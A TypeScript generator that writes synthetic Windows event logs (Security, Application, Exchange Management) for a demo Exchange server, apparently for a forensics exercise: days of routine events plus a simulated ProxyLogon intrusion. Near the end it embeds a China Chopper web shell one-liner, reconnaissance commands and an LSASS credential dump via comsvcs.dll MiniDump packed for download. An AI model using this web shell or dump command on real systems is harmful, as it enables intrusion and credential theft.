// Windows event logs of the demo server (Security with process-creation auditing, Application,
// MSExchange Management), written as real EVTX files: days of ordinary events — service logons,
// Exchange's own processes, ASP.NET compiling pages (csc.exe under w3wp.exe), Windows Error
// Reporting, routine cmdlets and a legitimate mailbox export — and the host side of the ProxyLogon
// intrusion in intrusion.ts: the OAB virtual directory set to a web shell, China Chopper commands
// that the IIS log cannot show (they travel in POST bodies), the commands of the second web shell,
// the LSASS dump and the archive made of it.
import { type RecordSpec, type WinEventSpec, type XValue, winEvent, writeEvtx } from './evtx-writer.js';
import { Rng } from './rng.js';
import type { Org } from './traffic.js';

export const WINEVT_DIR = 'C/Windows/System32/winevt/Logs';
const T = (iso: string) => Date.parse(iso);
const DAY = 86_400_000;
const SECURITY_GUID = '54849625-5478-4994-A5BA-3E3B0328C30D';
const SYSTEM_SID = 'S-1-5-18';
const EXCHANGE = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15';
const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';

interface Ev {
  time: number;
  spec: Omit<WinEventSpec, 'time' | 'recordId' | 'channel' | 'computer'>;
}

function processCreated(org: Org, p: { pid: number; image: string; parentPid: number; parent: string; cmd: string; user?: string; system?: boolean }): Ev['spec'] {
  const user = p.user ?? `${org.server}$`;
  return {
    provider: 'Microsoft-Windows-Security-Auditing',
    providerGuid: SECURITY_GUID,
    eventId: 4688,
    version: 2,
    level: 0,
    task: 13312,
    processId: 4,
    threadId: 7292,
    data: [
      ['SubjectUserSid', { t: 'sid', v: SYSTEM_SID }],
      ['SubjectUserName', user],
      ['SubjectDomainName', org.netbios],
      ['SubjectLogonId', { t: 'hex64', v: 0x3e7 }],
      ['NewProcessId', { t: 'hex64', v: p.pid }],
      ['NewProcessName', p.image],
      ['TokenElevationType', '%%1936'],
      ['ProcessId', { t: 'hex64', v: p.parentPid }],
      ['CommandLine', p.cmd],
      ['TargetUserSid', { t: 'sid', v: 'S-1-0-0' }],
      ['TargetUserName', '-'],
      ['TargetDomainName', '-'],
      ['TargetLogonId', { t: 'hex64', v: 0 }],
      ['ParentProcessName', p.parent],
      ['MandatoryLabel', { t: 'sid', v: 'S-1-16-16384' }],
    ],
  };
}

function logon(org: Org, rng: Rng, account: string, type: number, ip: string): Ev['spec'] {
  return {
    provider: 'Microsoft-Windows-Security-Auditing',
    providerGuid: SECURITY_GUID,
    eventId: 4624,
    version: 2,
    level: 0,
    task: 12544,
    processId: 668,
    threadId: 3120,
    data: [
      ['SubjectUserSid', { t: 'sid', v: SYSTEM_SID }],
      ['SubjectUserName', `${org.server}$`],
      ['SubjectDomainName', org.netbios],
      ['SubjectLogonId', { t: 'hex64', v: 0x3e7 }],
      ['TargetUserSid', { t: 'sid', v: `S-1-5-21-1004336348-1177238915-682003330-${1100 + rng.int(60)}` }],
      ['TargetUserName', account],
      ['TargetDomainName', org.netbios],
      ['TargetLogonId', { t: 'hex64', v: 0x1000000 + rng.int(0xffffff) }],
      ['LogonType', { t: 'u32', v: type }],
      ['LogonProcessName', type === 3 ? 'Kerberos' : 'Advapi  '],
      ['AuthenticationPackageName', type === 3 ? 'Kerberos' : 'Negotiate'],
      ['WorkstationName', '-'],
      ['LogonGuid', { t: 'guid', v: rng.guid() }],
      ['TransmittedServices', '-'],
      ['LmPackageName', '-'],
      ['KeyLength', { t: 'u32', v: 0 }],
      ['ProcessId', { t: 'hex64', v: type === 3 ? 0 : 0x2a0 }],
      ['ProcessName', type === 3 ? '-' : 'C:\\Windows\\System32\\services.exe'],
      ['IpAddress', ip],
      ['IpPort', type === 3 ? String(49152 + rng.int(16000)) : '-'],
      ['ImpersonationLevel', '%%1833'],
      ['RestrictedAdminMode', '-'],
      ['TargetOutboundUserName', '-'],
      ['TargetOutboundDomainName', '-'],
      ['VirtualAccount', '%%1843'],
      ['TargetLinkedLogonId', { t: 'hex64', v: 0 }],
      ['ElevatedToken', '%%1842'],
    ],
  };
}

function cmdlet(org: Org, ok: boolean, name: string, params: string, caller: string, origin: string): Ev['spec'] {
  const values: XValue[] = [name, params, caller, 'S-1-5-21-1004336348-1177238915-682003330-500', 'S-1-5-21-1004336348-1177238915-682003330-500', origin, '7312 w3wp#MSExchangeECPAppPool', '', '12', '00:00:00.4103851', `View Entire Forest: 'False', Default Scope: '${org.domain}', Configuration Domain Controller: 'dc01.contoso.local'`, ''];
  if (!ok) values.push(`System.Management.Automation.ParameterBindingException: A parameter cannot be found that matches parameter name.`);
  // A native log keeps the values in one string-array <Data>.
  return { provider: 'MSExchange CmdletLogs', eventId: ok ? 1 : 6, qualifiers: ok ? 16384 : 49152, level: ok ? 4 : 2, task: 1, keywords: 0x80000000000000n, data: [{ t: 'strings', v: values.map(String) }] };
}

function appEvent(provider: string, eventId: number, level: number, text: string): Ev['spec'] {
  return { provider, eventId, qualifiers: level === 2 ? 49152 : 16388, level, task: 1, keywords: 0x80000000000000n, data: [text] };
}

function serialise(org: Org, channel: string, events: Ev[]): Buffer {
  const sorted = [...events].sort((a, b) => a.time - b.time);
  const records: RecordSpec[] = sorted.map((e, i) => ({
    event: winEvent({ ...e.spec, time: e.time, recordId: 100_000 + i, channel, computer: org.serverFqdn } as WinEventSpec),
    written: e.time,
  }));
  return writeEvtx(records);
}

/** The demo server's event logs: `{ rel, data }` per file, deterministic for a seed. */
export function demoEventLogs(rng: Rng, org: Org, start: string, days: number): { rel: string; data: Buffer }[] {
  const security: Ev[] = [];
  const application: Ev[] = [];
  const management: Ev[] = [];
  const t0 = Date.parse(`${start}T00:00:00Z`);
  let pid = 0x1200;
  const nextPid = () => (pid += 4 + rng.int(60));

  for (let d = 0; d < days; d++) {
    const day = t0 + d * DAY;
    // Service and user logons.
    for (let i = 0; i < 40; i++) {
      const t = day + rng.int(DAY);
      const svc = i % 3 === 0;
      security.push({ time: t, spec: logon(org, rng, svc ? 'HealthMailbox' + rng.hex(7) : rng.pick(org.users), svc ? 5 : 3, svc ? '-' : `10.20.1.${10 + rng.int(200)}`) });
    }
    // Exchange's own processes and the ordinary children of w3wp (ASP.NET compiling, crash reporting).
    for (let i = 0; i < 24; i++) {
      const t = day + rng.int(DAY);
      const kind = rng.int(5);
      if (kind === 0) {
        const csc = nextPid();
        security.push({ time: t, spec: processCreated(org, { pid: csc, image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', parentPid: 0x1a2c, parent: W3WP, cmd: `"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\ecp\\${rng.hex(8)}\\${rng.hex(8)}\\${rng.hex(8)}.cmdline"` }) });
        security.push({ time: t + 120, spec: processCreated(org, { pid: nextPid(), image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe', parentPid: csc, parent: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', cmd: `C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\\Windows\\TEMP\\RES${rng.hex(4)}.tmp"` }) });
      } else if (kind === 1) {
        security.push({ time: t, spec: processCreated(org, { pid: nextPid(), image: 'C:\\Windows\\System32\\WerFault.exe', parentPid: 0x1a2c, parent: W3WP, cmd: `C:\\Windows\\system32\\WerFault.exe -u -p ${6700 + rng.int(100)} -s ${1000 + rng.int(900)}` }) });
      } else if (kind === 2) {
        security.push({ time: t, spec: processCreated(org, { pid: nextPid(), image: `${EXCHANGE}\\Bin\\MSExchangeHMWorker.exe`, parentPid: 0x9b0, parent: `${EXCHANGE}\\Bin\\MSExchangeHMHost.exe`, cmd: `"${EXCHANGE}\\Bin\\MSExchangeHMWorker.exe" -workerListeningPort:${20000 + rng.int(999)}` }) });
      } else if (kind === 3) {
        security.push({ time: t, spec: processCreated(org, { pid: nextPid(), image: 'C:\\Windows\\System32\\cmd.exe', parentPid: 0x2d8, parent: 'C:\\Windows\\System32\\svchost.exe', cmd: `C:\\Windows\\system32\\cmd.exe /c powershell.exe -NonInteractive -File "${EXCHANGE}\\Scripts\\CheckDatabaseRedundancy.ps1"` }) });
      } else {
        security.push({ time: t, spec: processCreated(org, { pid: nextPid(), image: 'C:\\Windows\\System32\\conhost.exe', parentPid: 0x1cc0, parent: 'C:\\Windows\\System32\\cmd.exe', cmd: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1' }) });
      }
    }
    // Routine administration.
    for (let i = 0; i < 5; i++) {
      const t = day + (8 + rng.int(9)) * 3_600_000 + rng.int(3_600_000);
      const user = rng.pick(org.users);
      const [name, params] = rng.pick([
        ['Get-Mailbox', `-ResultSize '500'`],
        ['Set-Mailbox', `-Identity '${user}' -ProhibitSendQuota '4.9 GB (5,261,334,528 bytes)'`],
        ['Get-MailboxDatabase', '-Status:$true'],
        ['Set-CASMailbox', `-Identity '${user}' -ActiveSyncEnabled 'True'`],
        ['Get-InboxRule', `-Mailbox '${user}'`],
      ] as const);
      management.push({ time: t, spec: cmdlet(org, true, name, params, `${org.domain}/Users/${org.admins[0] ?? 'admin'}`, 'Remote-ManagementShell-Unknown') });
    }
    // Application: Exchange services' routine messages and a Unified Messaging error that is not an exploit.
    for (let i = 0; i < 10; i++) {
      const t = day + rng.int(DAY);
      application.push({ time: t, spec: appEvent('MSExchange ADAccess', 2080, 4, `Process MSExchangeMailboxAssistants.exe (PID=${3000 + rng.int(900)}). Exchange Active Directory Provider has discovered the following servers with the following characteristics.`) });
    }
    if (d === 2) application.push({ time: day + 5 * 3_600_000, spec: appEvent('MSExchange Unified Messaging', 1400, 2, 'The Microsoft Exchange Unified Messaging service could not start: the certificate is not valid. System.Security.Cryptography.CryptographicException') });
  }
  // A legitimate export of a leaver's mailbox to the file server (a look-alike of the ProxyShell export).
  management.push({ time: t0 + DAY + 14 * 3_600_000, spec: cmdlet(org, true, 'New-MailboxExportRequest', `-Mailbox 'leaver' -FilePath '\\\\fs01\\pst$\\leaver.pst'`, `${org.domain}/Users/${org.admins[0] ?? 'admin'}`, 'Remote-ManagementShell-Unknown') });

  // The intrusion, host side. ECP runs the SSRF's cmdlets as the administrator it impersonates.
  const ecpCaller = `${org.domain}/Users/Administrator`;
  const chopper = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>`;
  management.push({ time: T('2021-03-03T06:49:51.390Z'), spec: cmdlet(org, true, 'Get-OabVirtualDirectory', '-ADPropertiesOnly:$true', ecpCaller, 'Microsoft.Exchange.Management.ControlPanel') });
  management.push({ time: T('2021-03-03T06:49:53.773Z'), spec: cmdlet(org, true, 'Set-OabVirtualDirectory', `-Identity '${org.server}\\OAB (Default Web Site)' -ExternalUrl '${chopper}'`, ecpCaller, 'Microsoft.Exchange.Management.ControlPanel') });
  management.push({ time: T('2021-03-03T06:49:58.836Z'), spec: cmdlet(org, true, 'Set-OabVirtualDirectory', `-Identity '${org.server}\\OAB (Default Web Site)' -ExternalUrl $null`, ecpCaller, 'Microsoft.Exchange.Management.ControlPanel') });

  const owaPool = 0x1f44;
  const defaultPool = 0x2210;
  const shell = (time: string, parentPid: number, cmd: string) => {
    const cmdPid = nextPid();
    security.push({ time: T(time), spec: processCreated(org, { pid: cmdPid, image: 'C:\\Windows\\System32\\cmd.exe', parentPid, parent: W3WP, cmd }) });
    return cmdPid;
  };
  // 5 March: China Chopper through RedirSuiteServerProxy.aspx (POST bodies: absent from the IIS log).
  const c1 = shell('2021-03-05T03:07:02.400Z', owaPool, `cmd /c cd /d "${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth"&whoami&echo [S]&cd&echo [E]`);
  security.push({ time: T('2021-03-05T03:07:02.450Z'), spec: processCreated(org, { pid: nextPid(), image: 'C:\\Windows\\System32\\whoami.exe', parentPid: c1, parent: 'C:\\Windows\\System32\\cmd.exe', cmd: 'whoami' }) });
  shell('2021-03-05T03:07:40.800Z', owaPool, `cmd /c cd /d "${EXCHANGE}\\FrontEnd\\HttpProxy\\owa\\auth"&dir C:\\inetpub\\wwwroot\\aspnet_client\\system_web&echo [S]&cd&echo [E]`);
  // 6 March: the second web shell's commands (also in the IIS log as ?cmd=…), then the dump packed for download.
  const cmds = ['cmd /c whoami', 'cmd /c ipconfig /all', 'cmd /c net group "domain admins" /domain', 'cmd /c tasklist /svc', 'cmd /c rundll32 C:\\windows\\system32\\comsvcs.dll MiniDump 620 C:\\inetpub\\wwwroot\\aspnet_client\\lsass.dmp full'];
  cmds.forEach((c, i) => {
    const at = T('2021-03-06T17:27:45.300Z') + i * 31_000;
    const cmdPid = shell(new Date(at).toISOString(), defaultPool, c);
    const inner = c.slice('cmd /c '.length);
    const exe = inner.split(' ')[0]!;
    security.push({ time: at + 40, spec: processCreated(org, { pid: nextPid(), image: `C:\\Windows\\System32\\${exe}${exe.endsWith('.exe') ? '' : '.exe'}`, parentPid: cmdPid, parent: 'C:\\Windows\\System32\\cmd.exe', cmd: inner }) });
  });
  shell('2021-03-06T17:30:41.000Z', defaultPool, 'cmd /c makecab C:\\inetpub\\wwwroot\\aspnet_client\\lsass.dmp C:\\inetpub\\wwwroot\\aspnet_client\\lsass.dmp.zip');
  security.push({ time: T('2021-03-06T17:30:41.060Z'), spec: processCreated(org, { pid: nextPid(), image: 'C:\\Windows\\System32\\makecab.exe', parentPid: pid, parent: 'C:\\Windows\\System32\\cmd.exe', cmd: 'makecab C:\\inetpub\\wwwroot\\aspnet_client\\lsass.dmp C:\\inetpub\\wwwroot\\aspnet_client\\lsass.dmp.zip' }) });

  // 8 March: the web-shell address signs in over the network with a password from the dump — a
  // record no rule flags, for the pivot to find (own random source: the records above keep theirs).
  security.push({ time: T('2021-03-08T20:40:03.120Z'), spec: logon(org, new Rng(7701), org.admins[0] ?? 'admin', 3, '198.51.100.77') });

  return [
    { rel: `${WINEVT_DIR}/Security.evtx`, data: serialise(org, 'Security', security) },
    { rel: `${WINEVT_DIR}/Application.evtx`, data: serialise(org, 'Application', application) },
    { rel: `${WINEVT_DIR}/MSExchange Management.evtx`, data: serialise(org, 'MSExchange Management', management) },
  ];
}
